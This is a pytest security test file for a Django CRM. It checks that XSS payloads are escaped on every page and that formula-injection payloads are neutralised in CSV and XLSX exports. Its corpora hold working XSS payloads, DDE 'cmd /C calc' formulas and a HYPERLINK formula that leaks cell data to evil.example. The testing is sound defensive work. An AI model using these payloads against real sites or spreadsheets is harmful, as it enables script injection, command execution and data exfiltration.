"""Injection corpora (research T10, T11).

XSS: every payload of XSS_CORPUS is written through the services into every free-text field of a
customer (name, industry, province, city, address, website, notes, external id, a tag, a timeline
note) and of a contact (name, title, department, notes, external id), and once more as an update
(so the audit log shows it as a change). Then, as the administrator, every page that shows them is
fetched: each customer's 360 page, edit and merge pages, each contact's edit page, the customer and
contact lists (also with the payload in the query string), the search page and its htmx fragment,
the audit log and the home page. In no answer may
- a payload that holds any of < > " ' & appear verbatim (Django's escaping turns each of them into
  an entity, so a verbatim copy is an unescaped one);
- an attribute name hold the marker, an on* handler or a <script> (other than JSON data) hold the
  marker, or a URL attribute (href, src, action, formaction …) start with javascript:/vbscript:/data:;
- a template-ish payload come out evaluated ("49" where {{7*7}} was written);
and every HTML answer carries the Content-Security-Policy header.

Formula injection: every payload of FORMULA_CORPUS is written into every exported text column; the
CSV and XLSX exports then hold no cell a spreadsheet would run (CSV: no cell that starts with a
trigger after leading blanks/control characters; XLSX: no <f> element in any sheet, and the
payload cells are strings). A phone written `+86 138 0013 8000` survives export → import as the
same customer (updated, not duplicated) from both formats.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from django.test import Client

from tests.live import figure

MARK = "gxss"
XSS_CORPUS = [
    "<script>gxss(0)</script>",
    '"><script>gxss(1)</script>',
    "'><img src=x onerror=gxss(2)>",
    '" onmouseover="gxss(3)" x="',
    "' onfocus='gxss(4)' autofocus='",
    "javascript:gxss(5)",
    " javascript:gxss(6)//",
    "<svg onload=gxss(7)>",
    "<svg><script>gxss(8)</script></svg>",
    '<a href="javascript:gxss(9)">x</a>',
    '<iframe src="javascript:gxss(10)">',
    "</textarea><script>gxss(11)</script>",
    "</title><script>gxss(12)</script>",
    "{{7*7}}gxss13",
    "{% debug %}gxss14",
    "${7*7}gxss15",
    "<img src=x:gxss16 onerror=eval(src)>",
    "<details open ontoggle=gxss(17)>",
    "<body onload=gxss(18)>",
    "<math><style><img src=x onerror=gxss(19)>",
    '<div hx-get="/audit/" hx-trigger="load">gxss20</div>',
    "&lt;script&gt;gxss(21)&lt;/script&gt;",
    "<style>*{background:url(gxss22)}</style>",
    "\"'><svg/onload=gxss(23)>",
]
TEMPLATE_EVALUATED = {"{{7*7}}gxss13": "49gxss13", "${7*7}gxss15": "$49gxss15"}
CUSTOMER_FIELDS = {"name": 200, "industry": 100, "province": 50, "city": 50, "address": 300, "website": 200,
                   "notes": 5000, "external_id": 64}
CONTACT_FIELDS = {"name": 100, "title": 100, "department": 100, "notes": 2000, "external_id": 64}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "hx-get", "hx-post",
             "hx-put", "hx-patch", "hx-delete"}
SPECIAL = set("<>\"'&")


class _Scan(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: str | None = None

    def handle_starttag(self, tag, attrs):
        if MARK in tag:
            self.problems.append(f"injected tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if MARK in name:
                self.problems.append(f"injected attribute {name!r} on <{tag}>")
            if name.startswith("on") and MARK in value:
                self.problems.append(f"marker in handler {name}={value!r} on <{tag}>")
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRS and squeezed.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"script URL {name}={value!r} on <{tag}>")
        if tag == "script" and dict(attrs).get("type") not in ("application/json", "application/ld+json"):
            self._script = ""

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            if MARK in self._script:
                self.problems.append(f"marker inside a <script>: {self._script[:80]!r}")
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script += data


def scan(html: str) -> list[str]:
    problems = []
    for payload in XSS_CORPUS:
        if SPECIAL & set(payload) and payload in html:
            problems.append(f"unescaped payload {payload!r}")
        if payload in TEMPLATE_EVALUATED and TEMPLATE_EVALUATED[payload] in html:
            problems.append(f"template evaluated: {payload!r}")
    parser = _Scan()
    parser.feed(html)
    parser.close()
    return problems + parser.problems


@pytest.fixture
def xss_world(world):
    from guanxi.customers import services

    admin = world.users["admin"]
    customers, contacts = [], []
    for i, payload in enumerate(XSS_CORPUS):
        data = {f: payload[:n] for f, n in CUSTOMER_FIELDS.items()}
        data.update(kind="person", owner=world.users["rep_a"].pk, tags=[payload[:50]],
                    external_id=f"x{i}-{payload}"[:64])
        c = services.customer_create(actor=admin, data=data, allow_duplicate=True)
        services.note_add(actor=admin, customer=c, body=payload)
        # an update, so that the audit log shows the payload as a before/after change
        services.customer_update(actor=admin, customer=c, data={"notes": payload + " (2)", "city": payload[-50:]})
        cdata = {f: payload[:n] for f, n in CONTACT_FIELDS.items()}
        cdata["external_id"] = f"x{i}-{payload}"[:64]
        contacts.append(services.contact_create(actor=admin, customer=c, data=cdata))
        customers.append(c)
    world.xss_customers, world.xss_contacts = customers, contacts
    return world


def test_xss_corpus_is_escaped_on_every_page(xss_world):
    from urllib.parse import quote

    w = xss_world
    client = Client()
    client.force_login(w.users["admin"])
    pages = ["/customers/?page_size=100", "/contacts/?page_size=100", "/audit/", "/today/", "/search/?q=gxss"]
    for c in w.xss_customers:
        pages += [f"/customers/{c.pk}/", f"/customers/{c.pk}/edit/", f"/customers/{c.pk}/merge/",
                  f"/customers/{c.pk}/merge/?source={w.xss_customers[0].pk}"]
    pages += [f"/contacts/{k.pk}/edit/" for k in w.xss_contacts]
    for payload in XSS_CORPUS:  # reflected: the payload as query and filters
        q = quote(payload[:100])
        pages += [f"/search/?q={q}", f"/customers/?q={q}&city={quote(payload[:50])}&tag={quote(payload[:50])}",
                  f"/contacts/?q={q}"]
    problems, fetched, seen = [], 0, 0
    for url in pages:
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}) if url.startswith("/search/") else ({},):
            response = client.get(url, **headers)
            fetched += 1
            if response.status_code != 200:
                problems.append(f"{url}: status {response.status_code}")
                continue
            html = response.content.decode()
            seen += MARK in html
            if not headers:
                assert "Content-Security-Policy" in response, url
            problems += [f"{url}{' (htmx)' if headers else ''}: {p}" for p in scan(html)]
    figure(f"T10 XSS: {len(XSS_CORPUS)} payloads × {len(CUSTOMER_FIELDS) + 2} customer and {len(CONTACT_FIELDS)} "
           f"contact fields; {fetched} pages fetched ({seen} showed the marker), {len(problems)} unescaped")
    assert seen > len(w.xss_customers), "the payloads never reached the pages: nothing was tested"
    assert not problems, "\n".join(problems[:50])


def test_xss_corpus_in_exports_stays_data(xss_world):
    """The exports are not HTML, but the payload must come back as the same text, not as markup or formulas."""
    from guanxi.core.tenancy import tenant_scope
    from guanxi.customers.exports import export_customers

    admin = xss_world.users["admin"]
    with tenant_scope(admin.organization_id):
        content, _t, _n = export_customers(actor=admin, fmt="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    names = {r[1] for r in rows[1:]}
    for payload in XSS_CORPUS:
        stored = " ".join(payload.split())  # names are stored with whitespace collapsed
        assert stored in names or "'" + stored in names, payload


def test_the_scanner_finds_what_it_looks_for():
    """The checks above are only as good as scan(): it must flag each payload left unescaped."""
    for payload in XSS_CORPUS:
        if SPECIAL & set(payload):
            assert scan(f"<p>{payload}</p>"), payload
    assert scan('<a href=" javascript:gxss(5)">x</a>')
    assert scan('<input value="" onmouseover="gxss(3)" x="">')
    assert scan("<p>49gxss13</p>")
    assert not scan("<p>&lt;script&gt;gxss(0)&lt;/script&gt; javascript:gxss(5) {{7*7}}gxss13</p>")


# --- formula injection ------------------------------------------------------------------------------

FORMULA_CORPUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1+1",
    "-2+3+cmd|' /C calc'!A0", "|calc", "%0A=1+1",
]
EXPORTED_TEXT = {"name": 200, "industry": 100, "province": 50, "city": 50, "address": 300, "notes": 5000,
                 "external_id": 64}
TRIGGER = "=+-@＝＋－＠"


def _runs_as_formula(cell: str) -> bool:
    stripped = cell.lstrip(" \t\r\n\x00\u00a0\u3000")
    return bool(stripped) and stripped[0] in TRIGGER


def _sheets(xlsx: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


@pytest.fixture
def formula_world(world):
    from django.core.exceptions import ValidationError

    from guanxi.customers import services

    admin = world.users["admin"]
    with pytest.raises(ValidationError):  # NUL never gets in (and PostgreSQL could not store it)
        services.customer_create(actor=admin, data={"name": "\x00=1+1", "kind": "person"}, allow_duplicate=True)
    corpus = FORMULA_CORPUS
    for i, payload in enumerate(corpus):
        data = {f: payload[:n] for f, n in EXPORTED_TEXT.items()}
        data.update(kind="person", tags=[payload[:50]], external_id=f"{payload}{i}"[:64])
        services.customer_create(actor=admin, data=data, allow_duplicate=True)
    world.formula_corpus = corpus
    return world


def test_exports_hold_no_formula_and_phones_survive_the_round_trip(formula_world, tmp_path):
    from guanxi.core.tenancy import tenant_scope
    from guanxi.customers import services
    from guanxi.customers.exports import export_customers
    from guanxi.customers.models import Customer
    from guanxi.customers.selectors import CustomerFilters
    from guanxi.imports.services import import_file_sync

    w = formula_world
    admin = w.users["admin"]
    with tenant_scope(admin.organization_id):
        csv_bytes, _t, _n = export_customers(actor=admin, fmt="csv")
        xlsx_bytes, _t, _n = export_customers(actor=admin, fmt="xlsx")

    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    live = [c for c in cells if _runs_as_formula(c)]
    neutralised = sum(1 for c in cells if c.startswith("'") and _runs_as_formula(c[1:]))
    assert not live, f"CSV cells a spreadsheet would run: {live[:10]}"
    assert neutralised >= len(w.formula_corpus) * len(EXPORTED_TEXT), neutralised

    sheets = _sheets(xlsx_bytes)
    formulas = sum(len(re.findall(r"<f[ >]", xml)) for xml in sheets.values())
    assert sheets and formulas == 0, f"{formulas} formula cells in the XLSX"
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx_bytes))
    values = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [v for v in values if _runs_as_formula(v)], "XLSX string cells that would run"
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]

    # A real phone number starting with + survives export → import as the same customer.
    with tenant_scope(admin.organization_id):
        phone_customer = services.customer_create(
            actor=admin, data={"name": "电话往返", "kind": "person", "phone": "+86 138 0013 8000"}, allow_duplicate=True)
    outcomes = []
    for fmt in ("csv", "xlsx"):
        with tenant_scope(admin.organization_id):
            content, _t, _n = export_customers(actor=admin, fmt=fmt, filters=CustomerFilters(q="13800138000"))
            path = tmp_path / f"round-trip.{fmt}"
            path.write_bytes(content)
            job = import_file_sync(actor=admin, kind="customers", path=str(path), key="phone")
            same = list(Customer.objects.filter(phone="+8613800138000").values_list("pk", "name"))
        outcomes.append(f"{fmt}: {job.status}, {job.created_count} created, {job.updated_count} updated")
        assert job.status == "done", (fmt, job.status, job.errors[:5], job.mapping, job.headers)
        assert (job.created_count, job.updated_count) == (0, 1), (fmt, job.created_count, job.updated_count)
        assert same == [(phone_customer.pk, "电话往返")], same
    figure(f"T11 formula injection: {len(w.formula_corpus)} payloads × {len(EXPORTED_TEXT) + 1} exported text columns; "
           f"CSV {len(cells)} cells, {len(live)} live, {neutralised} neutralised with '; XLSX {formulas} <f> elements; "
           f"phone +86 138 0013 8000 export → import: {'; '.join(outcomes)}")
